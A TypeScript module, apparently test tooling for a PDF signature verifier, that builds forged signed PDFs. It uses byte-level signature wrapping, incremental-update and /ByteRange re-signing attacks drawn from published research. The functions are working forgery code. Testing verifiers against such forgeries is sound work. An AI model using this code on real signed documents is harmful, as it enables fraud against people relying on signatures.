// Forged signed PDFs, made by byte manipulation of a real signed file the way the published
// attacks make them (Mladenov, Mainka et al., "1 Trillion Dollar Refund: How To Spoof PDF
// Signatures", CCS 2019: signature wrapping (SWA) and incremental saving (ISA); "Shadow Attacks",
// NDSS 2021). Written for files whose last revision is a classic xref table, as docwasm's signer
// and makePdf write them; no docwasm code is used.

/** Where the last (or first) signature dictionary of a file lies and what its /ByteRange says. */
export interface SignatureLayout {
  object: number;
  /** Offset of `N 0 obj` and just past `endobj`. */
  objectStart: number;
  objectEnd: number;
  /** Offset of the /ByteRange's `[` and the room up to `/Contents` (the bracket text and its padding). */
  rangeAt: number;
  rangeWidth: number;
  ranges: [number, number, number, number];
  /** The hex digits inside the /Contents string (the gap without `<` `>`). */
  contentsHex: string;
}

export function signatureLayouts(file: Buffer): SignatureLayout[] {
  const text = file.toString('latin1');
  return [...text.matchAll(/(\d+) 0 obj\s*<<\/Type\/Sig[^]*?\/ByteRange(\[[^\]]*\] *)\/Contents<([0-9A-Fa-f]*)>[^]*?endobj/g)].map((m) => {
    const rangeAt = (m.index ?? 0) + m[0].indexOf('/ByteRange') + '/ByteRange'.length;
    const bracket = (m[2] ?? '').trimEnd();
    return {
      object: Number(m[1]),
      objectStart: m.index ?? 0,
      objectEnd: (m.index ?? 0) + m[0].length,
      rangeAt,
      rangeWidth: (m[2] ?? '').length,
      ranges: bracket.slice(1, -1).trim().split(/\s+/).map(Number) as [number, number, number, number],
      contentsHex: m[3] ?? '',
    };
  });
}

export function lastSignature(file: Buffer): SignatureLayout {
  const layout = signatureLayouts(file).at(-1);
  if (!layout) throw new Error('no signature dictionary in the file');
  return layout;
}

/** The text between `N 0 obj` and `endobj` of the object's last definition in the file. */
export function objectBody(file: Buffer, object: number): string {
  const found = [...file.toString('latin1').matchAll(new RegExp(`(?:^|\\s)${object} 0 obj\\s*([^]*?)\\s*endobj`, 'g'))].at(-1);
  if (!found?.[1]) throw new Error(`object ${object} not found`);
  return found[1];
}

/** The number of the last object whose definition holds `text` (e.g. a page's content stream). */
export function objectHolding(file: Buffer, text: string): number {
  const at = file.lastIndexOf(text, undefined, 'latin1');
  const header = [
    ...file
      .subarray(0, at)
      .toString('latin1')
      .matchAll(/(\d+) 0 obj/g),
  ].at(-1);
  if (!header) throw new Error(`no object holds ${text}`);
  return Number(header[1]);
}

/** A content stream object drawing `text` in the page's /F1 at the top left. */
export function textStream(text: string): string {
  const stream = `BT /F1 24 Tf 72 700 Td (${text}) Tj ET`;
  return `<</Length ${stream.length}>>\nstream\n${stream}\nendstream`;
}

interface XrefSection {
  at: number;
  entries: Map<number, number>;
  trailer: string;
}

function lastXref(file: Buffer): XrefSection {
  const text = file.toString('latin1');
  const at = Number(/startxref\s+(\d+)\s*%%EOF\s*$/.exec(text)?.[1]);
  if (!text.startsWith('xref', at)) throw new Error('the last revision has no classic xref table');
  const entries = new Map<number, number>();
  const lines = text
    .slice(at + 4, text.indexOf('trailer', at))
    .trim()
    .split(/\r?\n/);
  for (let i = 0; i < lines.length;) {
    const [first, count] = (lines[i] ?? '').trim().split(/\s+/).map(Number) as [number, number];
    for (let k = 0; k < count; k++) {
      const [offset, , kind] = (lines[i + 1 + k] ?? '').trim().split(/\s+/);
      if (kind === 'n') entries.set(first + k, Number(offset));
    }
    i += count + 1;
  }
  const trailer = /trailer\s*(<<[^]*?>>)\s*startxref/.exec(text.slice(at))?.[1] ?? '';
  return { at, entries, trailer };
}

/** A classic xref table (subsections of consecutive numbers) and its trailer, ending in `>>\n`. */
function xrefTable(entries: Map<number, number>, trailer: string): string {
  const numbers = [...entries.keys()].sort((a, b) => a - b);
  let out = 'xref\n';
  for (let i = 0; i < numbers.length;) {
    let j = i;
    while (j + 1 < numbers.length && numbers[j + 1] === (numbers[j] ?? 0) + 1) j++;
    out += `${numbers[i]} ${j - i + 1}\n${numbers
      .slice(i, j + 1)
      .map((n) => `${String(entries.get(n)).padStart(10, '0')} 00000 n \n`)
      .join('')}`;
    i = j + 1;
  }
  return `${out}trailer\n${trailer}\n`;
}

function trailerNumber(trailer: string, key: string): string {
  const value = new RegExp(`/${key}\\s+(\\d+(?:\\s+\\d+\\s+R)?)`).exec(trailer)?.[1];
  if (!value) throw new Error(`trailer has no /${key}`);
  return value;
}

/** A /ByteRange bracket text padded to the room the original left, so no offset moves. */
function rangeText(layout: SignatureLayout, written: string): string {
  if (written.length > layout.rangeWidth) throw new Error(`${written} does not fit in ${layout.rangeWidth} bytes`);
  return written.padEnd(layout.rangeWidth, ' ');
}

/**
 * Signature wrapping as issue 28 shows it: a block inserted right after the /Contents string
 * moves the signed tail; at the old startxref offset (now inside the block) stands a new xref
 * that points at a new page content and a new /Sig whose /ByteRange skips the block; the block
 * ends in `>`, so the gap still runs from `<` to `>`. The signed bytes are unchanged.
 */
export function wrapSignature(file: Buffer, replacedObject: number, text: string): Buffer {
  const layout = lastSignature(file);
  const [, gapStart, gapEnd, tail] = layout.ranges;
  const xref = lastXref(file);
  if (xref.at <= gapEnd) throw new Error('the xref must follow the signature');
  const build = (shift: number): string => {
    const content = `${replacedObject} 0 obj\n${textStream(text)}\nendobj\n`;
    const sigText = file.subarray(layout.objectStart, layout.objectEnd).toString('latin1');
    const at = layout.rangeAt - layout.objectStart;
    const signature = `${sigText.slice(0, at)}${rangeText(layout, `[0 ${gapStart} ${gapEnd + shift} ${tail}]`)}${sigText.slice(at + layout.rangeWidth)}\n`;
    const entries = new Map([...xref.entries].map(([n, offset]) => [n, offset >= gapEnd ? offset + shift : offset]));
    const table = (objectsAt: number) => {
      entries.set(replacedObject, objectsAt);
      entries.set(layout.object, objectsAt + content.length);
      return xrefTable(entries, xref.trailer);
    };
    const objectsAt = xref.at + table(0).length;
    return `${' '.repeat(xref.at - gapEnd)}${table(objectsAt)}${content}${signature}%>`;
  };
  const shift = build(0).length;
  return Buffer.concat([file.subarray(0, gapEnd), Buffer.from(build(shift), 'latin1'), file.subarray(gapEnd)]);
}

/** Overwrites part of the /Contents zero padding with `filler` (same length: nothing moves). */
export function fillGap(file: Buffer, filler: string): Buffer {
  const layout = lastSignature(file);
  const at = layout.ranges[2] - 1 - filler.length - 4;
  if (!/^0+$/.test(file.subarray(at, at + filler.length).toString('latin1'))) throw new Error('no padding there');
  const out = Buffer.from(file);
  out.write(filler, at, 'latin1');
  return out;
}

/**
 * Appends an incremental update redefining `objects` (number → body). With `xref: false`, only
 * the objects (the ISA variant that leaves readers to find them by repair).
 */
export function appendRevision(file: Buffer, objects: Record<number, string>, { xref = true } = {}): Buffer {
  const previous = lastXref(file);
  let out = file.toString('latin1');
  if (!out.endsWith('\n')) out += '\n';
  const entries = new Map<number, number>();
  for (const [n, body] of Object.entries(objects)) {
    entries.set(Number(n), out.length);
    out += `${n} 0 obj\n${body}\nendobj\n`;
  }
  if (xref) {
    const size = Math.max(Number(trailerNumber(previous.trailer, 'Size')), ...[...entries.keys()].map((n) => n + 1));
    const at = out.length;
    out += xrefTable(entries, `<</Size ${size}/Root ${trailerNumber(previous.trailer, 'Root')}/Prev ${previous.at}>>`);
    out += `startxref\n${at}\n%%EOF\n`;
  }
  return Buffer.from(out, 'latin1');
}

/**
 * Writes `written` as the last signature's /ByteRange (in its room: nothing moves) and signs,
 * with `sign`, the bytes `signs` names — a signature that verifies over exactly those bytes, so
 * only the range itself can make it invalid. The CMS goes into the /Contents string, zero-padded.
 */
export function resign(file: Buffer, written: string, signs: [number, number, number, number], sign: (bytes: Buffer) => Buffer): Buffer {
  const layout = lastSignature(file);
  const out = Buffer.from(file);
  out.write(rangeText(layout, written), layout.rangeAt, 'latin1');
  const [a, b, c, d] = signs;
  const cms = sign(Buffer.concat([out.subarray(a, a + b), out.subarray(c, c + d)]))
    .toString('hex')
    .toUpperCase();
  if (cms.length > layout.contentsHex.length) throw new Error(`the CMS (${cms.length / 2} bytes) does not fit in /Contents (${layout.contentsHex.length / 2})`);
  out.write(cms.padEnd(layout.contentsHex.length, '0'), layout.ranges[1] + 1, 'latin1');
  return out;
}
